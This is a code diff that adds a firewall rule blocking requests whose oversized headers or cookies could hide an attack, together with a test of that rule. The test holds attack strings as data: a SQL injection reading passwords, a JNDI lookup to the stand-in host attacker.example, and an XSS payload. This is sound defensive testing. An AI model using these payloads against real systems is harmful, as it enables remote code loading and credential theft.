@@ -470,6 +470,12 @@ fn header(name: &'static str) -> Field {
 fn core() -> Vec<(&'static str, Statement)> {
     let allowed_methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
     vec![
+        // Headers or cookies past what the rules read (AWS WAF's oversize handling
+        // `MATCH`, see `inspect::Limited`): more than 200 headers or cookies, more than
+        // 8 KiB of `Cookie` lines (past nginx's default for one header line), or of the
+        // other headers. Without it, an attack would pass behind 200 harmless cookies.
+        // First, so that such a request is refused before any field is scanned.
+        ("SC-CORE-025", past_the_limits()),
         (
             "SC-CORE-001",
             Statement::Not(Box::new(Statement::Or(
@@ -789,6 +795,20 @@ fn core() -> Vec<(&'static str, Statement)> {
         // A Host header without a value (CRS 920290): a shop's every URL has a host.
         ("SC-CORE-024", regex(header("host"), r"^\s*$", &[])),
     ]
+}
+
+/// A request whose headers or cookies are past the inspection's limits (whatever they
+/// hold: the statements inside match nothing).
+fn past_the_limits() -> Statement {
+    let past = |limited| Statement::OnOversize {
+        matches: true,
+        limited,
+        statement: Box::new(Statement::Or(Vec::new())),
+    };
+    Statement::Or(vec![
+        past(crate::inspect::Limited::Cookies),
+        past(crate::inspect::Limited::Headers),
+    ])
 }
 
 /// Whether the request says it has a body: a Content-Length above 0, or a
@@ -2793,6 +2813,66 @@ mod tests {
         headers.insert("remote-ip", "' onselect=alert(1) '".parse().expect("value"));
         let verdict = judged("GET", "/", None, &headers, b"");
         assert_eq!(verdict.terminating_rule.as_deref(), Some("SC-XSS-006"));
+    }
+
+    /// An attack behind 200 harmless cookies, or behind 8 KiB of other headers, is past
+    /// what the rules read, and blocked for that (SC-CORE-025); a shop's long cookies
+    /// within the limits are not.
+    #[test]
+    fn padding_does_not_hide_an_attack() {
+        use crate::inspect::{MOST_INSPECTED, MOST_INSPECTED_BYTES};
+        let browser =
+            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15";
+        let with = |pairs: &[(&str, String)]| {
+            let mut headers = HeaderMap::new();
+            headers.insert("user-agent", browser.parse().expect("value"));
+            headers.insert("accept", "text/html".parse().expect("value"));
+            for (name, value) in pairs {
+                headers.append(
+                    http::HeaderName::from_bytes(name.as_bytes()).expect("name"),
+                    value.parse().expect("value"),
+                );
+            }
+            judged("GET", "/", None, &headers, b"")
+        };
+        let cookies = |count: usize, last: &str| {
+            (0..count)
+                .map(|at| format!("pref{at}=a{at}"))
+                .chain([last.to_owned()])
+                .collect::<Vec<_>>()
+                .join("; ")
+        };
+        let attack = "q=1' union select password from users--";
+        assert_eq!(
+            with(&[("cookie", cookies(3, attack))])
+                .terminating_rule
+                .as_deref()
+                .map(|rule| rule.starts_with("SC-SQLI")),
+            Some(true)
+        );
+        let hidden = with(&[("cookie", cookies(MOST_INSPECTED, attack))]);
+        assert_eq!(hidden.terminating_rule.as_deref(), Some("SC-CORE-025"));
+        let padded = with(&[
+            ("x-padding", "p".repeat(MOST_INSPECTED_BYTES)),
+            (
+                "x-api-version",
+                "${jndi:ldap://attacker.example/a}".to_owned(),
+            ),
+        ]);
+        assert_eq!(padded.terminating_rule.as_deref(), Some("SC-CORE-025"));
+        // 7 KiB of analytics cookies and 2 KiB of other headers: each within its limit.
+        let token = "GA1.2.1234567890.1700000000";
+        let long = (0..)
+            .map(|at| format!("_ga_{at}={token}"))
+            .take_while(|_| true)
+            .scan(0, |length, cookie| {
+                *length += cookie.len() + 2;
+                (*length < 7 * 1024).then_some(cookie)
+            })
+            .collect::<Vec<_>>()
+            .join("; ");
+        let shop = with(&[("cookie", long), ("x-client-state", "s".repeat(2048))]);
+        assert!(!shop.blocked, "{:?}", shop.matches);
     }
 
     #[test]
